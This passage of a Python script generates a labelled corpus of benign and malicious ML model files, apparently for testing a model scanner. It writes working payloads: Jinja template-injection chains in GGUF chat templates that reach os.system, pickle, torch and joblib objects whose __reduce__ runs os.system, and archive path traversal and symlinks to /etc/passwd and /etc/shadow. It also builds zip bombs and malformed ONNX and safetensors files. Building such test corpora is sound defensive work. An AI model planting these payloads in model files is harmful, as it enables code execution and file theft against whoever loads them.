    )
    return pb_int(1, 1) + pb_msg(2, meta_info, pb_msg(2, graph), sig)


def tf_benign_nodes() -> list[bytes]:
    f = tf_attr_type(1)
    return [
        tf_node("x", "Placeholder", attrs={"dtype": f}),
        tf_node("w", "VariableV2", attrs={"dtype": f}),
        tf_node("w/read", "Identity", ["w"], {"T": f}),
        tf_node("matmul", "MatMul", ["x", "w/read"], {"T": f}),
        tf_node("b", "Const", attrs={"dtype": f}),
        tf_node("add", "AddV2", ["matmul", "b"], {"T": f}),
        tf_node("relu", "Relu", ["add"], {"T": f}),
        tf_const_string("save/filename", "model"),
        tf_node("save/SaveV2", "SaveV2", ["save/filename"]),
        tf_node("save/RestoreV2", "RestoreV2", ["save/filename"]),
        tf_node("save/MergeV2Checkpoints", "MergeV2Checkpoints", ["save/filename"]),
        tf_node("StatefulPartitionedCall", "StatefulPartitionedCall", ["x"]),
    ]


def build_tf_stdlib(c: Corpus) -> None:
    def tf_dir(
        name: str,
        nodes: list[bytes],
        tech: str,
        desc: str,
        library: bytes = b"",
        label: str = "malicious",
    ) -> None:
        rel = f"{label}/{name}"
        c.path(rel + "/saved_model.pb").write_bytes(
            tf_saved_model(tf_benign_nodes()[:7] + nodes, library)
        )
        (c.out / rel / "variables").mkdir(exist_ok=True)
        c.add(rel, None, label, tech, desc, "tf-savedmodel")

    t = "tf_readfile"
    tf_dir(
        "tf_readfile",
        [tf_const_string("fname", "/etc/passwd"), tf_node("read", "ReadFile", ["fname"])],
        t,
        "SavedModel graph with a ReadFile op (/etc/passwd)",
    )
    t = "tf_writefile"
    tf_dir(
        "tf_writefile",
        [
            tf_const_string("fname", c.mpath(t)),
            tf_const_string("contents", ""),
            tf_node("write", "WriteFile", ["fname", "contents"]),
        ],
        t,
        "SavedModel graph with a WriteFile op",
    )
    t = "tf_pyfunc"
    tf_dir(
        "tf_pyfunc",
        [
            tf_node(
                "py",
                "PyFunc",
                ["x"],
                {
                    "token": pb_bytes(2, "pyfunc_0"),
                    "Tin": pb_msg(1, pb_int(6, 1)),
                    "Tout": pb_msg(1, pb_int(6, 1)),
                },
            )
        ],
        t,
        "SavedModel graph with a PyFunc op",
    )
    t = "tf_eagerpyfunc"
    tf_dir(
        "tf_eagerpyfunc",
        [tf_node("py", "EagerPyFunc", ["x"], {"token": pb_bytes(2, "pyfunc_1")})],
        t,
        "SavedModel graph with an EagerPyFunc op",
    )
    t = "tf_matchingfiles"
    tf_dir(
        "tf_matchingfiles",
        [tf_const_string("pattern", "/etc/*"), tf_node("glob", "MatchingFiles", ["pattern"])],
        t,
        "SavedModel graph with a MatchingFiles op",
    )
    t = "tf_op_in_function"
    fn = pb_msg(
        1,
        pb_msg(1, pb_bytes(1, "__inference_serve_42")),
        tf_node("fname", "Const", field=3),
        tf_node("w", "WriteFile", ["fname", "fname"], field=3),
    )
    tf_dir(
        "tf_writefile_in_function",
        [],
        t,
        "WriteFile hidden in GraphDef.library function node_def",
        library=pb_msg(2, fn),
    )
    rel = "benign/tf_savedmodel_handmade"
    c.path(rel + "/saved_model.pb").write_bytes(tf_saved_model(tf_benign_nodes()))
    (c.out / rel / "variables").mkdir(exist_ok=True)
    c.add(
        rel,
        None,
        "benign",
        "tf_savedmodel",
        "hand-written SavedModel: MatMul/Relu plus SaveV2/RestoreV2",
        "tf-savedmodel",
    )


def onnx_model(
    initializers: list[bytes], nodes: list[bytes], opsets: list[tuple[str, int]]
) -> bytes:
    def vinfo(name: str, dims: list[int]) -> bytes:
        shape = b"".join(pb_msg(1, pb_int(1, d)) for d in dims)
        return pb_bytes(1, name) + pb_msg(2, pb_msg(1, pb_int(1, 1), pb_msg(2, shape)))

    graph = (
        b"".join(nodes)
        + pb_bytes(2, "g")
        + b"".join(initializers)
        + pb_msg(11, vinfo("x", [1, 4]))
        + pb_msg(12, vinfo("y", [1, 4]))
    )
    return (
        pb_int(1, 8)
        + pb_bytes(2, "dozor-corpus")
        + pb_bytes(3, "1.0")
        + pb_msg(7, graph)
        + b"".join(pb_msg(8, pb_bytes(1, d), pb_int(2, v)) for d, v in opsets)
    )


def onnx_init(
    name: str,
    dims: list[int],
    values: list[float] | None = None,
    external: list[tuple[str, str]] | None = None,
) -> bytes:
    parts = [pb_int(1, d) for d in dims] + [pb_int(2, 1), pb_bytes(8, name)]
    if values is not None:
        parts.append(pb_bytes(9, f32(values)))
    if external:
        parts += [pb_msg(13, pb_bytes(1, k), pb_bytes(2, v)) for k, v in external]
        parts.append(pb_int(14, 1))
    return pb_msg(5, *parts)


def onnx_node(op: str, inputs: list[str], outputs: list[str], name: str, domain: str = "") -> bytes:
    parts = (
        [pb_bytes(1, i) for i in inputs]
        + [pb_bytes(2, o) for o in outputs]
        + [pb_bytes(3, name), pb_bytes(4, op)]
    )
    if domain:
        parts.append(pb_bytes(7, domain))
    return pb_msg(1, *parts)


def build_onnx_stdlib(c: Corpus) -> None:
    add = [onnx_node("Add", ["x", "w"], ["y"], "add")]
    t = "onnx_external_data_traversal"
    c.mal(
        "onnx_external_traversal.onnx",
        onnx_model(
            [
                onnx_init(
                    "w",
                    [1, 4],
                    external=[
                        ("location", "../../../etc/passwd"),
                        ("offset", "0"),
                        ("length", "16"),
                    ],
                )
            ],
            add,
            [("", 17)],
        ),
        t,
        "initializer external_data location ../../../etc/passwd",
        "onnx",
    )
    t = "onnx_external_data_absolute"
    c.mal(
        "onnx_external_absolute.onnx",
        onnx_model(
            [onnx_init("w", [1, 4], external=[("location", "/etc/passwd"), ("length", "16")])],
            add,
            [("", 17)],
        ),
        t,
        "initializer external_data location /etc/passwd",
        "onnx",
    )
    t = "onnx_custom_domain"
    c.mal(
        "onnx_custom_domain.onnx",
        onnx_model(
            [onnx_init("w", [1, 4], floats(4, 10))],
            [onnx_node("ShellExec", ["x", "w"], ["y"], "custom", "com.example.evil")],
            [("", 17), ("com.example.evil", 1)],
        ),
        t,
        "node in custom operator domain com.example.evil",
        "onnx",
    )
    c.ben(
        "onnx_add_handmade.onnx",
        onnx_model(
            [onnx_init("w", [1, 4], floats(4, 11))],
            [onnx_node("Add", ["x", "w"], ["t"], "add"), onnx_node("Relu", ["t"], ["y"], "relu")],
            [("", 17)],
        ),
        "onnx_native",
        "hand-written ONNX Add+Relu with inline initializer",
        "onnx",
    )


CHATML = (
    "{% for message in messages %}{{'<|im_start|>' + message['role'] + '\\n' + message['content'] + "
    "'<|im_end|>' + '\\n'}}{% endfor %}{% if add_generation_prompt %}{{ '<|im_start|>assistant\\n' }}{% endif %}"
)
LLAMA3 = (
    "{% set loop_messages = messages %}{% for message in loop_messages %}"
    "{% set content = '<|start_header_id|>' + message['role'] + '<|end_header_id|>\\n\\n'+ "
    "message['content'] | trim + '<|eot_id|>' %}{% if loop.index0 == 0 %}{% set content = bos_token + content %}"
    "{% endif %}{{ content }}{% endfor %}{% if add_generation_prompt %}"
    "{{ '<|start_header_id|>assistant<|end_header_id|>\\n\\n' }}{% endif %}"
)


def gguf_model(template: str | None, extra_kv: list[tuple[str, int, Any]] | None = None) -> bytes:
    tokens = ["<unk>", "<s>", "</s>", "<|im_start|>", "<|im_end|>", "a", "b", "c"]
    kvs: list[tuple[str, int, Any]] = [
        ("general.architecture", GGUF_STR, "llama"),
        ("general.name", GGUF_STR, "dozor-corpus-tiny"),
        ("llama.context_length", GGUF_U32, 128),
        ("llama.embedding_length", GGUF_U32, 4),
        ("llama.block_count", GGUF_U32, 1),
        ("tokenizer.ggml.model", GGUF_STR, "llama"),
        ("tokenizer.ggml.tokens", GGUF_ARR, (GGUF_STR, tokens)),
        ("tokenizer.ggml.scores", GGUF_ARR, (GGUF_F32, [0.0] * len(tokens))),
        ("tokenizer.ggml.bos_token_id", GGUF_U32, 1),
    ]
    if template is not None:
        kvs.append(("tokenizer.chat_template", GGUF_STR, template))
    kvs += extra_kv or []
    return gguf_bytes(kvs, [("token_embd.weight", (4, 8), f32(floats(32, 12)))])


def build_gguf_stdlib(c: Corpus) -> None:
    def m(name: str, tmpl: str, tech: str, desc: str, **kw: Any) -> None:
        c.mal(name, gguf_model(tmpl, **kw), tech, desc, "gguf")

    cmd = lambda t: c.cmd(t).replace("'", "\\'")  # noqa: E731
    t = "gguf_ssti_globals"
    m(
        "gguf_ssti_self_globals.gguf",
        CHATML
        + "{{ self.__init__.__globals__.__builtins__.__import__('os').system('"
        + cmd(t)
        + "') }}",
        t,
        "chat_template appends self.__init__.__globals__.__builtins__.__import__('os').system",
    )
    t = "gguf_ssti_cycler"
    m(
        "gguf_ssti_cycler.gguf",
        "{{ cycler.__init__.__globals__.os.system('" + cmd(t) + "') }}" + CHATML,
        t,
        "chat_template uses cycler.__init__.__globals__.os.system",
    )
    t = "gguf_ssti_subclasses"
    m(
        "gguf_ssti_subclasses.gguf",
        "{% for c in ''.__class__.__mro__[1].__subclasses__() %}{% if c.__name__ == 'catch_warnings' %}"
        "{{ c()._module.__builtins__['__import__']('os').system('"
        + cmd(t)
        + "') }}{% endif %}{% endfor %}",
        t,
        "chat_template walks ''.__class__.__mro__[1].__subclasses__() to catch_warnings",
    )
    t = "gguf_ssti_attr_filter"
    m(
        "gguf_ssti_attr_filter.gguf",
        "{{ (lipsum|attr('__globals__'))['os']|attr('system') }}{{ ((lipsum|attr('__globals__'))['os']|attr('popen'))('"
        + cmd(t)
        + "')|attr('read')() }}",
        t,
        "chat_template uses |attr('__globals__') filter chains",
    )
    t = "gguf_ssti_concat"
    m(
        "gguf_ssti_concat.gguf",
        "{% set g = '__glo' ~ 'bals__' %}{% set b = '__buil' + 'tins__' %}"
        "{{ (self.__init__|attr(g))[b]['__imp' ~ 'ort__']('o' ~ 's').system('"
        + cmd(t)
        + "') }}"
        + LLAMA3,
        t,
        "chat_template builds '__glo'~'bals__' by concatenation",
    )
    t = "gguf_ssti_named_template"
    m(
        "gguf_ssti_named_template.gguf",
        CHATML,
        t,
        "payload in the named template tokenizer.chat_template.tool_use; default template benign",
        extra_kv=[
            (
                "tokenizer.chat_template.tool_use",
                GGUF_STR,
                "{{ joiner.__init__.__globals__.os.popen('" + cmd(t) + "').read() }}",
            )
        ],
    )
    c.ben(
        "gguf_chatml_handmade.gguf",
        gguf_model(CHATML),
        "gguf_native",
        "hand-written GGUF with ChatML template",
        "gguf",
    )
    c.ben(
        "gguf_llama3_handmade.gguf",
        gguf_model(LLAMA3),
        "gguf_native",
        "hand-written GGUF with Llama-3 template",
        "gguf",
    )


def build_safetensors_stdlib(c: Corpus) -> None:
    body = f32(floats(8, 13))
    t = "st_overlapping_offsets"
    c.mal(
        "st_overlapping_offsets.safetensors",
        safetensors_bytes(
            {
                "a": {"dtype": "F32", "shape": [4], "data_offsets": [0, 16]},
                "b": {"dtype": "F32", "shape": [4], "data_offsets": [8, 24]},
            },
            body + b"\0" * 8,
        ),
        t,
        "two tensors whose data_offsets overlap",
        "safetensors",
    )
    t = "st_offset_past_eof"
    c.mal(
        "st_offset_past_eof.safetensors",
        safetensors_bytes(
            {"a": {"dtype": "F32", "shape": [1024], "data_offsets": [0, 4096]}}, body
        ),
        t,
        "data_offsets run past the end of the file",
        "safetensors",
    )
    t = "st_header_size_absurd"
    c.mal(
        "st_header_size_absurd.safetensors",
        safetensors_bytes(
            {"a": {"dtype": "F32", "shape": [8], "data_offsets": [0, 32]}}, body, header_len=2**62
        ),
        t,
        "header length field of 2**62",
        "safetensors",
    )
    t = "st_dtype_shape_mismatch"
    c.mal(
        "st_dtype_shape_mismatch.safetensors",
        safetensors_bytes({"a": {"dtype": "F32", "shape": [4, 4], "data_offsets": [0, 32]}}, body),
        t,
        "F32 [4,4] (64 bytes) declared over 32 bytes",
        "safetensors",
    )
    t = "st_header_not_json"
    c.mal(
        "st_header_not_json.safetensors",
        struct.pack("<Q", 24) + b'{"a": {"dtype": "F32", ' + body,
        t,
        "header is not valid JSON",
        "safetensors",
    )
    c.ben(
        "safetensors_handmade.safetensors",
        safetensors_bytes(
            {
                "__metadata__": {"format": "pt"},
                "fc.bias": {"dtype": "F32", "shape": [4], "data_offsets": [0, 16]},
                "fc.weight": {"dtype": "F32", "shape": [2, 2], "data_offsets": [16, 32]},
            },
            body,
        ),
        "safetensors_native",
        "hand-written valid safetensors",
        "safetensors",
    )


def build_containers_stdlib(c: Corpus) -> None:
    t = "zip_path_traversal"
    c.mal(
        "zip_path_traversal.zip",
        zip_bytes([("model/config.json", b"{}"), ("../../evil.pkl", os_system_pickle(c, t))]),
        t,
        "zip member ../../evil.pkl holding an os.system pickle",
        "zip",
    )
    t = "zip_symlink"
    link = zinfo("model/weights.pkl")
    link.external_attr = 0o120777 << 16
    c.mal(
        "zip_symlink.zip",
        zip_bytes([("model/config.json", b"{}"), (link, b"/etc/passwd")]),
        t,
        "zip member that is a symlink to /etc/passwd",
        "zip",
    )
    t = "zip_bomb"
    c.mal(
        "zip_bomb.zip",
        zip_bomb(os_system_pickle(c, t), 200 * 2**20),
        t,
        "200 MiB member (ratio ~1000:1) that starts with an os.system pickle",
        "zip",
    )
    t = "zip_nested"
    inner = zip_bytes([("model.pkl", os_system_pickle(c, t))])
    for level in range(3):
        inner = zip_bytes(
            [("README.txt", b"nested level %d" % level), (f"level{level}.zip", inner)]
        )
    c.mal(
        "zip_nested.zip",
        inner,
        t,
        "zip in zip in zip in zip; os.system pickle at the bottom",
        "zip",
    )
    t = "tar_absolute_path"
    # the absolute member is the marker itself: a careless extractall() creates exactly that file
    c.mal(
        "tar_absolute_path.tar",
        tar_bytes([(c.mpath(t), os_system_pickle(c, t))]),
        t,
        "tar member with an absolute path (the marker path) holding a payload",
        "tar",
    )
    c.mal(
        "tar_parent_path.tar",
        tar_bytes([("../../evil.pkl", os_system_pickle(c, t))]),
        t,
        "tar member ../../evil.pkl holding a payload",
        "tar",
    )
    t = "tar_symlink"
    ti = tarfile.TarInfo("model/weights.pkl")
    ti.type = tarfile.SYMTYPE
    ti.linkname = "/etc/passwd"
    hl = tarfile.TarInfo("model/hard.pkl")
    hl.type = tarfile.LNKTYPE
    hl.linkname = "../../etc/shadow"
    c.mal(
        "tar_symlink.tar",
        tar_bytes([("model/config.json", b"{}"), (ti, None), (hl, None)]),
        t,
        "tar with a symlink to /etc/passwd and a hardlink outside the tree",
        "tar",
    )
    t = "zip_corrupt_member"
    data = zip_bytes(
        [
            (zinfo("weights.pkl", zipfile.ZIP_DEFLATED), whole(2, {"w": floats(64, 14)})),
            (zinfo("extra/hook.pkl"), os_system_pickle(c, t)),
        ]
    )
    c.mal(
        "zip_corrupt_member.zip",
        zip_patch(data, 0, corrupt=True),
        t,
        "zip with an unreadable (corrupt deflate) member and an os.system pickle in another member",
        "zip",
    )

    c.ben(
        "archive_plain.zip",
        zip_bytes(
            [
                ("config.json", b'{"hidden": 8}'),
                ("model.pt", benign_torch_zip()),
                ("vocab.txt", b"a\nb\nc\n"),
            ],
            zipfile.ZIP_DEFLATED,
        ),
        "zip_benign",
        "zip holding a config, a torch checkpoint and a vocab",
        "zip",
    )
    c.ben(
        "archive_plain.tar.gz",
        gz(
            tar_bytes(
                [
                    ("model/config.json", b'{"hidden": 8}'),
                    (
                        "model/model.safetensors",
                        safetensors_bytes(
                            {"w": {"dtype": "F32", "shape": [4], "data_offsets": [0, 16]}},
                            f32(floats(4, 15)),
                        ),
                    ),
                ]
            )
        ),
        "tar_benign",
        "tar.gz holding a config and safetensors",
        "tar",
    )


def zip_bomb(head: bytes, size: int) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as zf:
        with zf.open(zinfo("model.pkl", zipfile.ZIP_DEFLATED), "w", force_zip64=False) as f:
            f.write(head)
            chunk = b"\0" * (1 << 20)
            left = size - len(head)
            while left > 0:
                f.write(chunk[:left])
                left -= len(chunk)
    return buf.getvalue()


def build_benign_stdlib(c: Corpus) -> None:
    import pickle
    from collections import OrderedDict

    data = {
        "name": "tiny",
        "layers": [8, 4, 1],
        "lr": 0.001,
        "tags": ("a", "b"),
        "blob": b"\x00\x01",
    }
    for proto in (0, 2, 4, 5):
        c.ben(
            f"plain_data_p{proto}.pkl",
            pickle.dumps(data, protocol=proto),
            "pickle_plain",
            f"pickle.dumps of plain data, protocol {proto}",
        )
    c.ben(
        "ordereddict_p2.pkl",
        pickle.dumps(OrderedDict(a=1, b=[1.0, 2.0]), protocol=2),
        "pickle_plain",
        "pickle of a collections.OrderedDict",
    )
    c.ben(
        "torch_state_dict_handmade.pt",
        benign_torch_zip(),
        "torch_zip",
        "hand-written torch.save zip of a Linear state_dict",
        "torch-zip",
    )
    c.ben(
        "torch_legacy_handmade.pt",
        torch_legacy_stream(None, None),
        "torch_legacy",
        "hand-written legacy torch stream (no payload)",
        "torch-legacy",
    )
    try:
        c.ben(
            "keras_dense_handmade.h5",
            keras_h5(None, None),
            "keras_h5",
            "hand-written legacy HDF5 Keras config",
            "keras-h5",
        )
    except ImportError:
        c.skipped.append("benign keras_dense_handmade.h5 (h5py missing)")


STDLIB_BUILDERS = [
    build_pickle_protocols,
    build_pickle_classic,
    build_pickle_bypasses,
    build_pickle_obfuscation,
    build_torch_stdlib,
    build_joblib_stdlib,
    build_numpy_stdlib,
    build_keras_stdlib,
    build_tf_stdlib,
    build_onnx_stdlib,
    build_gguf_stdlib,
    build_safetensors_stdlib,
    build_containers_stdlib,
    build_benign_stdlib,
]


# ---------------------------------------------------------------------------
# Full mode: files made by the real libraries
# ---------------------------------------------------------------------------


class _Payload:
    """Pickled by reference as posix.system(cmd); never called here."""

    def __init__(self, cmd: str):
        self.cmd = cmd

    def __reduce__(self) -> tuple[Any, tuple[str]]:
        return (os.system, (self.cmd,))


def zip_set_member_same_size(data: bytes, name: str, new: bytes) -> bytes:
    """Overwrite a STORED member in place (keeps torch's 64-byte alignment), fixing CRCs."""
    out = bytearray(data)
    for r in zip_records(data):
        if r["name"] == name:
            if r["csize"] != len(new):
                raise ValueError(f"{name}: size differs")
            start = int(r["data"])
            out[start : start + len(new)] = new
            crc = zlib.crc32(new)
            struct.pack_into("<I", out, int(r["local"]) + 14, crc)
            struct.pack_into("<I", out, int(r["cd"]) + 16, crc)
    return bytes(out)


def normalize_torch_zip(data: bytes) -> bytes:
    for r in zip_records(data):
        if str(r["name"]).endswith(".data/serialization_id"):
            data = zip_set_member_same_size(data, str(r["name"]), b"0" * int(r["csize"]))
    return data


def normalize_zip(data: bytes) -> bytes:
    return zip_replace_members(data, {})


def normalize_torch_legacy(data: bytes, elem_size: int = 4) -> bytes:
    """Legacy torch.save names storages by memory address and writes them sorted by that
    name. Rename them by first use in the main pickle (same length) and write the key list
    and the storage records in that order, so the bytes no longer depend on addresses.
    Every storage must have elements of ``elem_size`` bytes (float32 here)."""
    import pickle
    import pickletools

    f = io.BytesIO(data)
    starts = []
    for _ in range(5):
        starts.append(f.tell())
        for _op in pickletools.genops(f):
            pass
    end = f.tell()
    keys = [
        a
        for _o, a, _p in pickletools.genops(io.BytesIO(data[starts[4] : end]))
        if isinstance(a, str)
    ]
    main = data[starts[3] : starts[4]]
    order: list[str] = []
    for _o, a, _p in pickletools.genops(io.BytesIO(main)):
        if isinstance(a, str) and a in keys and a not in order:
            order.append(a)
    records: dict[str, bytes] = {}
    pos = end
    for k in keys:
        n = struct.unpack_from("<q", data, pos)[0]
        records[k] = data[pos : pos + 8 + n * elem_size]
        pos += 8 + n * elem_size
    if pos != len(data) or sorted(order) != sorted(keys):
        return data  # not the layout expected: leave it alone
    new = {k: str(i + 1).zfill(len(k)) for i, k in enumerate(order)}
    for k in order:
        main = main.replace(k.encode(), new[k].encode())
    keys_pickle = pickle.dumps([new[k] for k in order], protocol=2)
    return data[: starts[3]] + main + keys_pickle + b"".join(records[k] for k in order)


def torch_bytes(obj: Any, **kw: Any) -> bytes:
    import torch

    buf = io.BytesIO()
    torch.save(obj, buf, **kw)
    data = buf.getvalue()
    return normalize_torch_zip(data) if data[:2] == b"PK" else normalize_torch_legacy(data)


def jit_bytes(module: Any) -> bytes:
    import torch

    buf = io.BytesIO()
    torch.jit.save(module, buf)
    return normalize_torch_zip(buf.getvalue())


def build_torch_full(c: Corpus) -> None:
    import torch
    from torch import nn

    torch.manual_seed(SEED)
    model = nn.Sequential(nn.Linear(16, 32), nn.ReLU(), nn.Linear(32, 4))
    sd = model.state_dict()
    c.ben(
        "torch_sd_float32.pt",
        torch_bytes(sd),
        "torch_zip",
        "torch.save state_dict float32",
        "torch-zip",
        "full",
    )
    c.ben(
        "torch_sd_float16.pt",
        torch_bytes({k: v.half() for k, v in sd.items()}),
        "torch_zip",
        "torch.save state_dict float16",
        "torch-zip",
        "full",
    )
    c.ben(
        "torch_sd_bfloat16.pt",
        torch_bytes({k: v.bfloat16() for k, v in sd.items()}),
        "torch_zip",
        "torch.save state_dict bfloat16",
        "torch-zip",
        "full",
    )
    c.ben(
        "torch_sd_int8.pt",
        torch_bytes({k: (v * 100).to(torch.int8) for k, v in sd.items()}),
        "torch_zip",
        "torch.save state_dict int8",
        "torch-zip",
        "full",
    )
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        qsd = {k: torch.quantize_per_tensor(v, 0.01, 0, torch.qint8) for k, v in sd.items()}
    c.ben(
        "torch_sd_qint8.pt",
        torch_bytes(qsd),
        "torch_zip",
        "torch.save of per-tensor quantized qint8 tensors",
        "torch-zip",
        "full",
    )
    c.ben(
        "torch_full_module.pt",
        torch_bytes(model),
        "torch_zip",
        "torch.save of a whole nn.Sequential",
        "torch-zip",
        "full",
    )
    opt = torch.optim.Adam(model.parameters(), lr=1e-3)
    sched = torch.optim.lr_scheduler.StepLR(opt, step_size=10, gamma=0.5)
    x = torch.randn(8, 16)
    model(x).pow(2).mean().backward()
    opt.step()
    sched.step()
    ckpt = {
        "epoch": 3,
        "global_step": 120,
        "pytorch-lightning_version": "2.4.0",
        "state_dict": {"model." + k: v for k, v in model.state_dict().items()},
        "loops": {"fit_loop": {"epoch_progress": {"total": {"ready": 4, "completed": 3}}}},
        "callbacks": {
            "ModelCheckpoint{'monitor': 'val_loss'}": {"best_model_score": torch.tensor(0.25)}
        },
        "optimizer_states": [opt.state_dict()],
        "lr_schedulers": [sched.state_dict()],
        "hyper_parameters": {"lr": 1e-3, "hidden": 32, "layers": [16, 32, 4]},
    }
    c.ben(
        "lightning_checkpoint.ckpt",
        torch_bytes(ckpt),
        "torch_zip",
        "Lightning-style checkpoint dict with Adam state and StepLR",
        "torch-zip",
        "full",
    )
    c.ben(
        "torch_legacy_format.pt",
        torch_bytes(sd, _use_new_zipfile_serialization=False),
        "torch_legacy",
        "torch.save(..., _use_new_zipfile_serialization=False)",
        "torch-legacy",
        "full",
    )
    scripted = torch.jit.script(model)
    c.ben(
        "torchscript_scripted.pt",
        jit_bytes(scripted),
        "torchscript",
        "torch.jit.script + save",
        "torchscript",
        "full",
    )
    traced = torch.jit.trace(model, torch.randn(2, 16))
    c.ben(
        "torchscript_traced.pt",
        jit_bytes(traced),
        "torchscript",
        "torch.jit.trace + save",
        "torchscript",
        "full",
    )

    t = "torch_zip_data_pkl"
    c.mal(
        "torch_save_payload.pt",
        torch_bytes({"state_dict": sd, "hook": _Payload(c.cmd(t))}),
        t,
        "real torch.save of a dict with an object whose __reduce__ is os.system",
        "torch-zip",
        "full",
    )
    t = "torch_legacy_stream"
    c.mal(
        "torch_save_legacy_payload.pt",
        torch_bytes(
            {"state_dict": sd, "hook": _Payload(c.cmd(t))}, _use_new_zipfile_serialization=False
        ),
        t,
        "real legacy-format torch.save with a __reduce__ payload",
        "torch-legacy",
        "full",
    )
    base = jit_bytes(scripted)
    prefix = zipfile.ZipFile(io.BytesIO(base)).namelist()[0].split("/")[0]
    t = "torchscript_constants_pkl"
    c.mal(
        "torchscript_real_constants_pkl.pt",
        zip_replace_members(base, {f"{prefix}/constants.pkl": os_system_pickle(c, t)}),
        t,
        "torch.jit.save'd module with constants.pkl replaced by an os.system pickle",
        "torchscript",
        "full",
    )
    t = "torchscript_code_file_access"
    zf = zipfile.ZipFile(io.BytesIO(base))
    code_name = next(
        n
        for n in zf.namelist()
        if n.endswith(".py") and "/code/" in n and b"def forward" in zf.read(n)
    )
    src = zf.read(code_name).decode()
    head, sep, rest = src.partition("def forward(")
    sig, colon, body = rest.partition(":\n")
    inj = f"    _dz = torch.from_file({c.mpath(t)!r}, True, 1)\n"
    # the signature spans lines; inject after the first line ending in '-> Tensor:'
    lines = src.splitlines(keepends=True)
    for i, line in enumerate(lines):
        if line.rstrip().endswith("-> Tensor:"):
            lines.insert(i + 1, inj)
            break
    c.mal(
        "torchscript_real_code_from_file.pt",
        zip_replace_members(base, {code_name: "".join(lines).encode()}),
        t,
        "torch.jit.save'd module whose code/ forward was edited to call torch.from_file(path, True, 1)",
        "torchscript",
        "full",
    )


def _sklearn_models() -> dict[str, Any]:
    import numpy as np
    import pandas as pd
    from sklearn.compose import ColumnTransformer
    from sklearn.datasets import make_classification
    from sklearn.ensemble import GradientBoostingClassifier, RandomForestClassifier
    from sklearn.linear_model import LogisticRegression
    from sklearn.pipeline import make_pipeline
    from sklearn.preprocessing import OneHotEncoder, StandardScaler

    X, y = make_classification(n_samples=200, n_features=6, random_state=SEED)
    lr = make_pipeline(StandardScaler(), LogisticRegression(max_iter=200)).fit(X, y)
    rf = RandomForestClassifier(n_estimators=5, max_depth=3, random_state=SEED, n_jobs=1).fit(X, y)
    gb = GradientBoostingClassifier(n_estimators=5, max_depth=2, random_state=SEED).fit(X, y)
    rng = np.random.RandomState(SEED)
    df = pd.DataFrame(
        {
            "color": rng.choice(["red", "green", "blue"], 200),
            "size": rng.randn(200),
            "weight": rng.rand(200),
        }
    )
    ct = make_pipeline(
        ColumnTransformer(
            [
                ("cat", OneHotEncoder(handle_unknown="ignore"), ["color"]),
                ("num", StandardScaler(), ["size", "weight"]),
            ]
        ),
        LogisticRegression(max_iter=200),
    ).fit(df, y)
    return {"X": X, "y": y, "lr": lr, "rf": rf, "gb": gb, "ct": ct, "df": df}


def build_sklearn_full(c: Corpus) -> None:
    import pickle

    import joblib

    m = _sklearn_models()
    c.ben(
        "sklearn_pipeline_lr_p2.pkl",
        pickle.dumps(m["lr"], protocol=2),
        "sklearn_pickle",
        "StandardScaler+LogisticRegression pipeline, pickle protocol 2",
        "pickle",
        "full",
    )
    c.ben(
        "sklearn_pipeline_lr_p5.pkl",
        pickle.dumps(m["lr"], protocol=5),
        "sklearn_pickle",
        "StandardScaler+LogisticRegression pipeline, pickle protocol 5",
        "pickle",
        "full",
    )
    c.ben(
        "sklearn_random_forest.pkl",
        pickle.dumps(m["rf"], protocol=5),
        "sklearn_pickle",
        "RandomForestClassifier, pickle protocol 5",
        "pickle",
        "full",
    )
    c.ben(
        "sklearn_gradient_boosting.pkl",
        pickle.dumps(m["gb"], protocol=2),
        "sklearn_pickle",
        "GradientBoostingClassifier, pickle protocol 2",
        "pickle",
        "full",
    )
    c.ben(
        "sklearn_column_transformer.pkl",
        pickle.dumps(m["ct"], protocol=5),
        "sklearn_pickle",
        "ColumnTransformer(OneHotEncoder, StandardScaler)+LogisticRegression, protocol 5",
        "pickle",
        "full",
    )

    def jl(obj: Any, **kw: Any) -> bytes:
        buf = io.BytesIO()
        joblib.dump(obj, buf, **kw)
        return buf.getvalue()

    c.ben("sklearn_rf.joblib", jl(m["rf"]), "joblib", "joblib.dump RandomForest", "joblib", "full")
    c.ben(
        "sklearn_ct_compress3.joblib",
        jl(m["ct"], compress=3),
        "joblib",
        "joblib.dump compress=3",
        "joblib",
        "full",
    )
    c.ben(
        "sklearn_gb_lzma.joblib",
        jl(m["gb"], compress=("lzma", 3)),
        "joblib",
        "joblib.dump compress=('lzma',3)",
        "joblib",
        "full",
    )

    t = "joblib_payload"
    c.mal(
        "joblib_real_payload.joblib",
        jl([m["lr"], _Payload(c.cmd(t))]),
        t,
        "real joblib.dump of [sklearn pipeline, os.system __reduce__ object]",
        "joblib",
        "full",
    )
    t = "joblib_compressed"
    for comp in ("zlib", "gzip", "bz2", "xz", "lzma"):
        c.mal(
            f"joblib_real_payload_{comp}.joblib",
            jl([m["lr"], _Payload(c.cmd(t))], compress=(comp, 3)),
            t,
            f"real joblib.dump compress=('{comp}', 3) of [pipeline, payload]",
            "joblib",
            "full",
        )

    import cloudpickle

    c.ben(
        "cloudpickle_sklearn.pkl",
        cloudpickle.dumps(m["rf"]),
        "cloudpickle",
        "cloudpickle of a RandomForest",
        "pickle",
        "full",
    )

    import pandas as pd

    buf = io.BytesIO()
    pd.to_pickle(m["df"], buf, compression=None)
    c.ben(
        "pandas_dataframe.pkl",
        buf.getvalue(),
        "pandas_pickle",
        "pd.to_pickle of a DataFrame",
        "pickle",
        "full",
    )


def build_boosting_full(c: Corpus) -> None:
    import pickle
    import tempfile

    import lightgbm as lgb
    import xgboost as xgb

    m = _sklearn_models()
    clf = xgb.XGBClassifier(n_estimators=5, max_depth=2, random_state=SEED, n_jobs=1).fit(
        m["X"], m["y"]
    )
    c.ben(
        "xgboost_classifier.pkl",
        pickle.dumps(clf, protocol=4),
        "xgboost",
        "pickled XGBClassifier",
        "pickle",
        "full",
    )
    c.ben(
        "xgboost_booster.pkl",
        pickle.dumps(clf.get_booster(), protocol=4),
        "xgboost",
        "pickled xgboost Booster",
        "pickle",
        "full",
    )
    with tempfile.TemporaryDirectory() as td:
        for ext in ("json", "ubj"):
            clf.save_model(os.path.join(td, f"m.{ext}"))
            c.ben(
                f"xgboost_model.{ext}",
                Path(td, f"m.{ext}").read_bytes(),
                "xgboost",
                f"XGBClassifier.save_model .{ext}",
                f"xgboost-{ext}",
                "full",
            )
        lg = lgb.LGBMClassifier(
            n_estimators=5,
            num_leaves=4,
            random_state=SEED,
            n_jobs=1,
            deterministic=True,
            verbose=-1,
